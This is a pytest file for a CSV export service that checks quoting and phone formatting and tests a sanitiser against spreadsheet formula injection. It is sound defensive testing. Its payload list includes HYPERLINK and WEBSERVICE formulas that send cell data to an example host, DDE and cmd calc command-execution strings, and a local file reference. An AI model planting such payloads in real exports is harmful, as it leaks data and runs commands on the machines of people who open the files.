"""What a list's lines look like, and that no program takes a cell of them for a formula."""

import csv
import io
from collections.abc import Sequence
from itertools import product
from typing import Final
from uuid import UUID

import pytest

from service.exports.columns import Column
from service.exports.csv_lines import FORMULA, header, line, without_formula

EXPORT: Final = UUID("01990000-0000-7000-8000-000000000001")
NAMED: Final = (Column.NUMBER, Column.NAME, Column.POSTAL_ADDRESS, Column.MOBILE)

FORMULAS: Final = (
    "1+1",
    'HYPERLINK("https://example.org/?"&A1,"Click here")',
    'WEBSERVICE("https://example.org/?"&A1)',
    "cmd|' /C calc'!A0",
    'DDE("soffice","/etc/hostname","a")',
    "SUM(1+1)*cmd|' /C calc'!A0",
    "'file:///etc/hostname'#$Sheet1.A1",
    '"&1+1&"',
)
BEFORE: Final = (
    "",
    " ",
    "\t",
    "\r",
    "\n",
    "\0",
    '"',
    "\ufeff",
    "\u200b",
    "\u00a0",
    "x\n",
    "x\r\n",
    "x;",
    "x,",
    "x\t",
    'x;"',
)
"""What is put before a sign, to hide that it comes first, or to begin a cell of its own."""


def corpus() -> list[str]:
    return [f"{before}{sign}{formula}" for before, sign, formula in product(BEFORE, FORMULA, FORMULAS)]


def the_file(cells: Sequence[str]) -> bytes:
    rows = [line(NAMED, {Column.NUMBER: "A", Column.NAME: cell}, EXPORT) for cell in cells]
    return header(NAMED) + b"".join(rows)


def test_every_field_is_quoted_and_each_line_says_which_list_it_is_from() -> None:
    values = {
        Column.NUMBER: "7KPM-2QXA",
        Column.NAME: 'Siân "Sal" Ŵyn, Esq.',
        Column.POSTAL_ADDRESS: "1 Example Street\nCardiff\nCF10 1AA",
        Column.MOBILE: "+447700900123",
        Column.EMAIL: "not.asked.for@example.com",
    }
    written = header(NAMED) + line(NAMED, values, EXPORT)
    assert (
        written
        == (
            '"number","name","postal_address","mobile","export"\r\n'
            '"7KPM-2QXA","Siân ""Sal"" Ŵyn, Esq.","1 Example Street\nCardiff\nCF10 1AA","(+44) 7700 900123",'
            f'"{EXPORT}"\r\n'
        ).encode()
    )
    assert [len(row) for row in csv.reader(io.StringIO(written.decode(), newline=""))] == [5, 5]


@pytest.mark.parametrize(
    ("e164", "written"), [("+353850000000", "(+353) 85 000 0000"), ("+442920180000", "(+44) 29 2018 0000")]
)
def test_a_number_from_elsewhere_begins_with_its_country(e164: str, written: str) -> None:
    assert f'"{written}"'.encode() in line([Column.MOBILE], {Column.MOBILE: e164}, EXPORT)


def test_no_cell_begins_with_a_sign_in_any_country_and_nothing_that_can_be_read_is_lost() -> None:
    for cell in corpus():
        safe = without_formula(cell)
        for part in safe.replace(";", "\n").replace(",", "\n").splitlines():
            assert not part.strip(' \u00a0\u200b"').startswith(tuple(FORMULA)), repr(cell)
        assert safe.replace("'", "").split() == cell.translate({0: " ", 0xFEFF: " "}).replace("'", "").split()
    assert without_formula("Mary-Jane O'Neill + sons; 2 x") == "Mary-Jane O'Neill + sons; 2 x"
